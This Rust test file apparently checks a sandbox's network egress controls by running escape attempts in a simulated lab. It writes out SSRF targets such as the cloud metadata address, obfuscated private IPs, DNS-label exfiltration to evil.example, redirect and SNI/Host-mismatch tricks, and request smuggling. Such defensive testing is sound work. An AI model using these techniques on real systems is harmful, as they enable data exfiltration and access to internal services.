//! Ways out that the rules do not give (N03 to N14), tried in a small internet of the test's own. Whether
//! something got out is seen at its far end.

use std::rc::Rc;

use palisade_testkit::{Attack, Lab, World};

use crate::host::{probe, strings};

/// Where the explicit proxy is, inside.
pub(crate) const PROXY: &str = "198.18.0.1:3128";
/// An address that is given itself meets the rules too, which know what is never allowed.
const BY_ADDRESS: &[&str] = &["egress-rules", "address-check"];
/// The host that nobody allowed.
pub(crate) const EVIL: &str = "203.0.113.66:";

/// An attack in the lab, which has seen nothing yet when it starts.
pub(crate) fn in_lab(lab: &Rc<Lab>, id: &'static str, name: impl Into<String>) -> Attack {
    let (quiet, entered) = (Rc::clone(lab), Rc::clone(lab));
    Attack::new(id, name).prepare(move |_| quiet.forget()).surroundings(move |_| entered.enter())
}

/// The harm is a connection to an address that starts so.
pub(crate) fn connects(attack: Attack, lab: &Rc<Lab>, address: &str) -> Attack {
    let (lab, address) = (Rc::clone(lab), address.to_owned());
    attack.succeeded(move |_, _| lab.connected(&address))
}

pub(crate) fn lab() -> Rc<Lab> {
    Rc::new(Lab::start())
}

pub(crate) fn allow(hosts: &'static [&'static str]) -> impl Fn(&World) -> Vec<String> + 'static {
    move |_| hosts.iter().flat_map(|host| ["--allow-host".to_owned(), (*host).to_owned()]).collect()
}

/// A page by its address, the header as a browser would set it.
pub(crate) fn page(place: &'static str) -> impl Fn(&World) -> Vec<String> + 'static {
    let host = place.trim_end_matches(":80");
    move |world| probe(world, &["page", place, host, "/"])
}

/// Proves: NET-6 allowed-names, NET-6 tunnelling
#[test]
fn n03_no_name_carries_data_out() {
    for command in [
        &["look-up", "c2VjcmV0.evil.example"][..],
        &["query", "203.0.113.53", "c2VjcmV0.evil.example"],
    ] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        in_lab(&lab, "N03", format!("data in a name that is looked up: {}", command[0]))
            .proves(&["NET-6 allowed-names", "NET-6 tunnelling"])
            .held_by(&["egress-rules"])
            .flags(allow(&["web.example"]))
            .command(move |world| probe(world, command))
            .succeeded(move |_, _| seen.asked_for("evil.example"))
            .check();
    }
}

/// Proves: NET-3 special-addresses, NET-4 pinned
#[test]
fn n04_an_allowed_name_leads_to_no_special_address() {
    for (name, place, address) in [
        ("the metadata service", "metadata.example:80", "169.254.169.254:"),
        ("a private address", "private.example:80", "10.0.0.5:"),
        ("an address of the provider's", "shared.example:80", "100.64.0.5:"),
        ("the host's loopback", "loopback.example:80", "127.0.0.1:"),
        ("a local address of the newer protocol", "local.example:80", "[fd00::5]:"),
    ] {
        let lab = lab();
        let attack = in_lab(&lab, "N04", format!("an allowed name that stands for {name}"))
            .proves(&["NET-3 special-addresses", "NET-4 pinned"])
            .held_by(&["address-check"])
            .flags(allow(&["*.example"]))
            .command(page(place));
        connects(attack, &lab, address).check();
    }
}

/// Proves: NET-3 special-addresses
#[test]
fn n04_no_range_opens_the_metadata_service() {
    let lab = lab();
    let attack =
        in_lab(&lab, "N04", "the metadata service by its address, where all addresses are allowed")
            .proves(&["NET-3 special-addresses"])
            .held_by(BY_ADDRESS)
            .flags(allow(&["0.0.0.0/0"]))
            .command(page("169.254.169.254:80"));
    connects(attack, &lab, "169.254.169.254:").check();
}

/// Proves: NET-3 special-addresses, NET-3 own-addresses
#[test]
fn n04_no_alias_leads_to_a_special_address() {
    for (place, address) in
        [("alias-of-private.example:80", "10.0.0.5:"), ("alias-of-own.example:80", "203.0.113.1:")]
    {
        let lab = lab();
        let attack = in_lab(&lab, "N04", format!("an allowed name that is an alias: {place}"))
            .proves(&["NET-3 special-addresses", "NET-3 own-addresses"])
            .held_by(&["address-check"])
            .flags(allow(&["*.example"]))
            .command(page(place));
        connects(attack, &lab, address).check();
    }
}

/// Past the host's firewall, which lets it talk to itself.
///
/// Proves: NET-3 own-addresses
#[test]
fn n04_an_allowed_name_leads_to_no_address_of_the_hosts_own() {
    for (name, place, address) in [
        ("on its loopback", "own.example:80", "203.0.113.1:"),
        ("of the newer protocol", "own-six.example:80", "[2001:db8::1]:"),
        ("on a link", "own-link.example:80", "198.51.100.1:"),
        ("in a range that is local as a whole", "own-range.example:80", "203.0.113.99:"),
    ] {
        let lab = lab();
        let attack = in_lab(
            &lab,
            "N04",
            format!("an allowed name that stands for the host's own address {name}"),
        )
        .proves(&["NET-3 own-addresses"])
        .held_by(&["address-check"])
        .flags(allow(&["*.example"]))
        .command(page(place));
        connects(attack, &lab, address).check();
    }
}

/// Proves: NET-3 special-addresses, NET-3 spellings
#[test]
fn n06_no_older_address_hides_in_a_newer_one() {
    for (place, address) in [
        ("mapped.example:80", "10.0.0.5:"),
        ("translated.example:80", "[64:ff9b::a00:5]:"),
        ("six-to-four.example:80", "[2002:a00:5::1]:"),
        ("teredo.example:80", "[2001:0:a00:5::1]:"),
    ] {
        let lab = lab();
        let attack = in_lab(&lab, "N06", format!("an IPv4 address inside an IPv6 one: {place}"))
            .proves(&["NET-3 special-addresses", "NET-3 spellings"])
            .held_by(&["address-check"])
            .flags(allow(&["*.example"]))
            .command(page(place));
        connects(attack, &lab, address).check();
    }
}

/// Proves: NET-3 spellings, NET-3 special-addresses
#[test]
fn n07_an_address_is_the_same_however_it_is_written() {
    for spelling in
        ["167772165", "0xa000005", "012.0.0.5", "10.5", "0x0a.0.0x5", "[::ffff:10.0.0.5]"]
    {
        let lab = lab();
        let place = format!("{spelling}:80");
        let through = format!(
            "GET http://{place}/ HTTP/1.1\\r\\nHost: {place}\\r\\nConnection: close\\r\\n\\r\\n"
        );
        let attack = in_lab(&lab, "N07", format!("a private address written {spelling}"))
            .proves(&["NET-3 spellings", "NET-3 special-addresses"])
            .held_by(BY_ADDRESS)
            .flags(allow(&["*", "0.0.0.0/0", "::/0"]))
            .command(move |world| probe(world, &["raw", PROXY, &through]))
            .bare_command(move |world| probe(world, &["page", &place, &place, "/"]));
        connects(attack, &lab, "10.0.0.5:").check();
    }
}

pub(crate) fn curl(arguments: &'static [&'static str]) -> impl Fn(&World) -> Vec<String> + 'static {
    move |_| strings(&[&["curl", "-s", "-k", "--max-time", "5"][..], arguments].concat())
}

/// Proves: NET-4 redirects
#[test]
fn n08_a_redirect_is_judged_again() {
    const TO_EVIL: &str = "http://web.example/redirect?http://evil.example/";
    const TO_METADATA: &str = "http://web.example/redirect?http://169.254.169.254/";
    let through = ["-L", "-x", "http://198.18.0.1:3128"];
    for (name, url, hosts, layer, address) in [
        ("a host that is not allowed", TO_EVIL, &["web.example"][..], &["egress-rules"][..], EVIL),
        (
            "the metadata service",
            TO_METADATA,
            &["web.example", "0.0.0.0/0"],
            BY_ADDRESS,
            "169.254.169.254:",
        ),
    ] {
        for (who, more) in [("the client", None), ("the proxy", Some("--follow-redirects"))] {
            let lab = lab();
            let attack = in_lab(&lab, "N08", format!("a redirect to {name}, followed by {who}"))
                .proves(&["NET-4 redirects"])
                .held_by(layer)
                .flags(move |world| {
                    let more = more.map(str::to_owned);
                    allow(hosts)(world).into_iter().chain(more).collect()
                })
                .command(move |_| {
                    let followed = if more.is_some() { &through[1..] } else { &through[..] };
                    strings(&[&["curl", "-s", "--max-time", "5"][..], followed, &[url]].concat())
                })
                .bare_command(move |_| strings(&["curl", "-s", "-L", "--max-time", "5", url]));
            connects(attack, &lab, address).check();
        }
    }
}

/// Proves: NET-3 ports
#[test]
fn n09_a_tunnel_leads_to_no_other_port() {
    let lab = lab();
    let seen = Rc::clone(&lab);
    in_lab(&lab, "N09", "CONNECT to a port that is not allowed")
        .held_by(&["egress-rules"])
        .flags(allow(&["web.example"]))
        .command(curl(&[
            "--proxytunnel",
            "-x",
            "http://198.18.0.1:3128",
            "http://web.example:8080/",
        ]))
        .bare_command(curl(&["http://web.example:8080/"]))
        .succeeded(move |_, _| seen.requested("web.example", "GET"))
        .check();
}

/// Proves: NET-4 sni
#[test]
fn n09_the_name_in_the_greeting_is_the_name_that_was_asked_for() {
    const FALSELY: &str = "evil.example:443:web.example:443";
    const URL: &str = "https://evil.example/";
    for (how, command) in [
        ("directly", curl(&["--noproxy", "*", "--connect-to", FALSELY, URL])),
        ("in a tunnel", curl(&["-x", "http://198.18.0.1:3128", "--connect-to", FALSELY, URL])),
    ] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        in_lab(&lab, "N09", format!("a TLS greeting for another host than was looked up, {how}"))
            .proves(&["NET-4 sni"])
            .held_by(&["names-agree"])
            .flags(allow(&["web.example"]))
            .command(command)
            .bare_command(curl(&["--connect-to", FALSELY, URL]))
            .succeeded(move |_, _| {
                seen.saw(|entry| entry["name"] == "evil.example" && entry["kind"] == "tls")
            })
            .check();
    }
}

/// Proves: NET-4 sni
#[test]
fn n09_the_host_of_a_request_is_the_host_that_was_asked_for() {
    let lab = lab();
    let seen = Rc::clone(&lab);
    in_lab(&lab, "N09", "a request for another host than was looked up")
        .proves(&["NET-4 sni"])
        .held_by(&["names-agree"])
        .flags(allow(&["web.example"]))
        .command(|world| probe(world, &["page", "web.example:80", "evil.example", "/"]))
        .succeeded(move |_, _| seen.requested("evil.example", "GET"))
        .contained(|_, output| output.out().contains("403"))
        .check();
}

/// Proves: NET-4 sni
#[test]
fn n09_the_second_request_of_a_connection_is_judged_too() {
    let lab = lab();
    let seen = Rc::clone(&lab);
    in_lab(&lab, "N09", "a request for another host, behind an honest one on the same connection")
        .proves(&["NET-4 sni"])
        .held_by(&["names-agree"])
        .flags(allow(&["web.example"]))
        .command(|world| {
            let two = "GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n\
                       GET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n";
            probe(world, &["raw", "web.example:80", two])
        })
        .succeeded(move |_, _| seen.requested("evil.example", "GET /hidden"))
        .contained(|_, output| output.out().contains("hello from web.example"))
        .check();
}

/// Proves: NET-4 sni
#[test]
fn n09_a_greeting_names_its_host() {
    const NAMELESS: &str = "import ssl, socket\n\
        ssl._create_unverified_context().wrap_socket(socket.create_connection(('web.example', 443), 5))\n";
    let lab = lab();
    let seen = Rc::clone(&lab);
    in_lab(&lab, "N09", "a TLS greeting that names no host")
        .proves(&["NET-4 sni"])
        .held_by(&["names-agree"])
        .flags(allow(&["web.example"]))
        .command(|_| strings(&["/usr/bin/python3", "-c", NAMELESS]))
        .succeeded(move |_, _| seen.saw(|entry| entry["kind"] == "tls" && entry["name"] == ""))
        .check();
}

/// A greeting whose server name is spelt otherwise than any client would, to a server that sends it back.
const SPELT: &str = "import socket, ssl, sys\n\
    spelling = bytes.fromhex(sys.argv[1])\n\
    stand_in = 'x' * len(spelling)\n\
    said = ssl.MemoryBIO()\n\
    client = ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname=stand_in)\n\
    try: client.do_handshake()\n\
    except ssl.SSLWantReadError: pass\n\
    greeting = said.read().replace(stand_in.encode(), spelling)\n\
    stream = socket.create_connection(('web.example', 7), 5)\n\
    stream.sendall(greeting)\n\
    heard = b''\n\
    while len(heard) < len(greeting):\n\
    \x20 more = stream.recv(4096)\n\
    \x20 if not more: break\n\
    \x20 heard += more\n\
    print('came back' if spelling in heard else 'lost')\n";

/// Proves: NET-4 sni
#[test]
fn n11_a_greeting_spells_its_host_as_it_was_judged() {
    for (how, spelling) in [
        ("with a dot at its end", "web.example."),
        ("with a soft hyphen", "we\u{ad}b.example"),
        ("in full-width letters", "\u{ff57}eb.example"),
    ] {
        let lab = lab();
        let bytes: String = spelling.bytes().map(|byte| format!("{byte:02x}")).collect();
        in_lab(&lab, "N11", format!("a TLS greeting for an allowed name {how}"))
            .proves(&["NET-4 sni"])
            .held_by(&["names-agree"])
            .flags(allow(&["web.example:7"]))
            .command(move |_| strings(&["/usr/bin/python3", "-c", SPELT, &bytes]))
            .succeeded(|_, output| output.out().contains("came back"))
            .check();
    }
}

/// Proves: NET-3 block-list, NET-3 spellings
#[test]
fn n11_a_name_is_the_same_however_it_is_written() {
    for spelling in ["EVIL.Example", "evil.example.", "EVIL.EXAMPLE.", "web.example@evil.example"] {
        let lab = lab();
        let target = format!("CONNECT {spelling}:80 HTTP/1.1\\r\\nHost: {spelling}:80\\r\\n\\r\\n");
        // No program's own resolver takes this one; a careless proxy might.
        let place = format!("{}:80", spelling.rsplit('@').next().unwrap_or_default());
        let attack = in_lab(&lab, "N11", format!("a denied name written {spelling}"))
            .proves(&["NET-3 block-list", "NET-3 spellings"])
            .flags(|_| strings(&["--allow-host", "**.example", "--deny-host", "evil.example"]))
            .command(move |world| probe(world, &["raw", PROXY, &target]))
            .bare_command(move |world| probe(world, &["page", &place, "evil.example", "/"]));
        let attack = if spelling.contains('@') {
            attack.by_design("what is no name is no host, with every layer off too")
        } else {
            attack.held_by(&["egress-rules"])
        };
        connects(attack, &lab, EVIL).check();
    }
}

/// Proves: NET-5 ignoring
#[test]
fn n12_a_program_that_knows_no_proxy_gets_no_further() {
    let lab = lab();
    let attack = in_lab(&lab, "N12", "a connection to an address, with no proxy in between")
        .proves(&["NET-5 ignoring"])
        .held_by(&["egress-rules"])
        .flags(allow(&["web.example"]))
        .command(page("203.0.113.66:80"));
    connects(attack, &lab, EVIL).check();
}

/// Proves: NET-7 logged
#[test]
fn n12_no_port_is_tried_unseen() {
    let lab = lab();
    in_lab(&lab, "N12", "a try of a port that nobody hears of")
        .held_by(&["packet-rules"])
        .flags(allow(&["web.example"]))
        .command(|world| probe(world, &["page", "203.0.113.66:8080", "evil.example", "/"]))
        .succeeded(|world, _| {
            let log = world.sandbox(["audit", "show", "--json"]).run();
            let told =
                |line: &str| line.contains("NETWORK_ATTEMPT") && line.contains("203.0.113.66");
            !log.out().lines().any(told)
        })
        .check();
}

/// Proves: NET-5 ignoring
#[test]
fn n12_no_datagram_leaves_by_the_way_out() {
    for place in ["203.0.113.10:443", "[2001:db8::10]:123"] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        in_lab(&lab, "N12", format!("a datagram, as QUIC and others send them, to {place}"))
            .proves(&["NET-5 ignoring"])
            .held_by(&["net-namespace"])
            .flags(allow(&["web.example", "203.0.113.0/24", "2001:db8::/32"]))
            .command(move |world| probe(world, &["datagram", place]))
            .succeeded(move |_, _| seen.saw(|entry| entry["kind"] == "udp"))
            .contained(|_, output| output.out().starts_with("refused "))
            .check();
    }
}

/// Proves: NET-5 ignoring
#[test]
fn n12_no_echo_request_leaves_by_the_way_out() {
    let lab = lab();
    in_lab(&lab, "N12", "an echo request, which can carry anything")
        .proves(&["NET-5 ignoring"])
        .held_by(&["net-namespace"])
        .flags(allow(&["web.example", "203.0.113.0/24"]))
        .command(|world| probe(world, &["ping", "203.0.113.10"]))
        .succeeded(|_, output| output.out().starts_with("done"))
        .check();
}

/// Proves: NET-3 local-names, NET-3 special-addresses
#[test]
fn n13_the_hosts_loopback_is_out_of_the_proxys_reach() {
    for target in ["127.0.0.1:80", "localhost:80", "[::1]:80", "0.0.0.0:80"] {
        let lab = lab();
        let request = format!(
            "CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\nGET / HTTP/1.0\\r\\nHost: {target}\\r\\n\\r\\n"
        );
        let seen = Rc::clone(&lab);
        in_lab(&lab, "N13", format!("the host's own services through the proxy, as {target}"))
            .proves(&["NET-3 special-addresses"])
            .held_by(BY_ADDRESS)
            .flags(allow(&["*", "0.0.0.0/0", "::/0"]))
            .command(move |world| probe(world, &["raw", PROXY, &request]))
            .bare_command(move |world| probe(world, &["page", target, target, "/"]))
            .succeeded(move |_, _| seen.connected("127.0.0.1:") || seen.connected("[::1]:"))
            .check();
    }
}

/// `*` is every name but those that a local network gives itself, whatever they stand for.
///
/// Proves: NET-3 local-names
#[test]
fn n13_names_of_the_local_network_need_a_rule_of_their_own() {
    for name in ["printer.local", "wiki.corp.internal"] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        in_lab(&lab, "N13", format!("a service of the local network by its name, {name}"))
            .proves(&["NET-3 local-names"])
            .held_by(&["egress-rules"])
            .flags(allow(&["*"]))
            .command(move |world| probe(world, &["page", &format!("{name}:80"), name, "/"]))
            .succeeded(move |_, _| seen.connected(EVIL))
            .check();
    }
}

/// Proves: NET-7 limit
#[test]
fn n14_many_connections_end_at_their_limit() {
    const MANY: usize = 200;
    const FAR_BEYOND_THE_LIMIT: usize = 100;
    let lab = lab();
    let seen = Rc::clone(&lab);
    in_lab(&lab, "N14", "hundreds of connections that are held open")
        .held_by(&["bounded-connections"])
        .flags(|_| strings(&["--allow-host", "web.example:7", "--max-connections", "20"]))
        .command(|world| probe(world, &["hold", "web.example:7", &MANY.to_string()]))
        .succeeded(move |_, _| {
            let echo = |local: &str| local.ends_with(":7");
            let journal = seen.journal();
            let opened = journal.iter().filter(|entry| entry["local"].as_str().is_some_and(echo));
            opened.count() > FAR_BEYOND_THE_LIMIT
        })
        .contained(|_, output| output.out().starts_with("done 20 of "))
        .check();
}
